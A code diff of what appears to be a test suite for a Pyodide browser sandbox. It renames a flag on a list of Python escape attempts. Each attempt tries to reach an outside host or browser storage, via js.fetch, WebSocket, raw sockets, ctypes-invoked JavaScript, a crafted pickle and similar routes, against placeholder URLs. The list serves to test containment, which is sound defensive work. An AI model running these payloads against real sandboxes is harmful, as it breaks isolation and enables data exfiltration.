@@ -4,98 +4,98 @@ export interface PythonAttempt {
   /** Prints `LEAKED` where it reached what it wanted by another way than the canary. */
   readonly script: string
   /** The site says by name what was tried. */
-  readonly isTold?: true
+  readonly isReported?: true
 }
 
 /** Every way of Python code to the browser: modules, frames, classes, natives, files, threads and the loop. */
 export const pythonAttempts: readonly PythonAttempt[] = [
-  { name: 'js.fetch', script: 'import js\njs.fetch("{{http}}")', isTold: true },
-  { name: 'from js', script: 'from js import fetch\nfetch("{{http}}")', isTold: true },
+  { name: 'js.fetch', script: 'import js\njs.fetch("{{http}}")', isReported: true },
+  { name: 'from js', script: 'from js import fetch\nfetch("{{http}}")', isReported: true },
   {
     name: 'synchronous XMLHttpRequest',
     script:
       'import js\nr = js.XMLHttpRequest.new()\nr.open("GET", "{{http}}", False)\ntry:\n    r.send()\nexcept Exception:\n    pass',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'importlib.import_module',
     script: 'import importlib\nimportlib.import_module("js").fetch("{{http}}")',
-    isTold: true,
+    isReported: true,
   },
-  { name: '__import__', script: '__import__("js").fetch("{{http}}")', isTold: true },
+  { name: '__import__', script: '__import__("js").fetch("{{http}}")', isReported: true },
   {
     name: 'pyodide.http.open_url',
     script: 'from pyodide.http import open_url\nopen_url("{{http}}").read()',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'pyodide.http.pyfetch',
     script:
       'from pyodide.http import pyfetch\ntry:\n    pyfetch("{{http}}").send(None)\nexcept Exception:\n    pass',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'pyodide.code.run_js',
     script: 'from pyodide.code import run_js\nrun_js("fetch(\'{{http}}\')")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'dynamic import of JavaScript',
     script: 'from pyodide.code import run_js\nrun_js("import(\'{{http}}\')")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'importScripts in a worker of JavaScript',
     script:
       'import js\njs.Worker.new("data:text/javascript," + js.encodeURIComponent("importScripts(\'{{http}}\')"))',
-    isTold: true,
+    isReported: true,
   },
-  { name: 'WebSocket', script: 'import js\njs.WebSocket.new("{{ws}}")', isTold: true },
-  { name: 'sendBeacon', script: 'import js\njs.navigator.sendBeacon("{{http}}", "x")', isTold: true },
-  { name: 'EventSource', script: 'import js\njs.EventSource.new("{{http}}")', isTold: true },
+  { name: 'WebSocket', script: 'import js\njs.WebSocket.new("{{ws}}")', isReported: true },
+  { name: 'sendBeacon', script: 'import js\njs.navigator.sendBeacon("{{http}}", "x")', isReported: true },
+  { name: 'EventSource', script: 'import js\njs.EventSource.new("{{http}}")', isReported: true },
   {
     name: 'pyodide_js.loadPackage',
     script: 'import pyodide_js\npyodide_js.loadPackage("{{http}}/a-1.0-py3-none-any.whl")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'indexedDB',
     script: 'import js\njs.indexedDB.open("stolen")\nprint("LEAKED")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'mounting a store of the browser',
     script:
       'import pyodide_js\npyodide_js.FS.mkdir("/kept")\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, None, "/kept")\nprint("LEAKED")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'ctypes and emscripten_run_script',
     script: 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'{{http}}\')")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: '_ctypes without ctypes',
     script:
       'import _ctypes\nhandle = _ctypes.dlopen(None, 0)\nprint("LEAKED" if _ctypes.dlsym(handle, "emscripten_run_script") else "")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'socket',
     script:
       'import socket\nhost, port = "{{hostport}}".split(":")\ns = socket.socket()\ntry:\n    s.connect((host, int(port)))\n    s.send(b"x")\nexcept Exception:\n    pass',
-    isTold: true,
+    isReported: true,
   },
   {
     name: '_socket',
     script:
       'import _socket\nhost, port = "{{hostport}}".split(":")\ns = _socket.socket()\ntry:\n    s.connect((host, int(port)))\nexcept Exception:\n    pass',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'a pickle that calls run_js',
     script: 'import pickle\npickle.loads(b"cpyodide.code\\nrun_js\\n(Vfetch(\\"{{http}}\\")\\ntR.")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'the gate taken out of the finders',
@@ -192,11 +192,11 @@ export const pythonAttempts: readonly PythonAttempt[] = [
   {
     name: 'a page opened by webbrowser',
     script: 'import webbrowser\nwebbrowser.open("{{http}}")',
-    isTold: true,
+    isReported: true,
   },
   {
     name: 'a message to the page',
     script: 'import js\n(js.parent if hasattr(js, "parent") else js).postMessage("x", "*")\nprint("LEAKED")',
-    isTold: true,
+    isReported: true,
   },
 ]
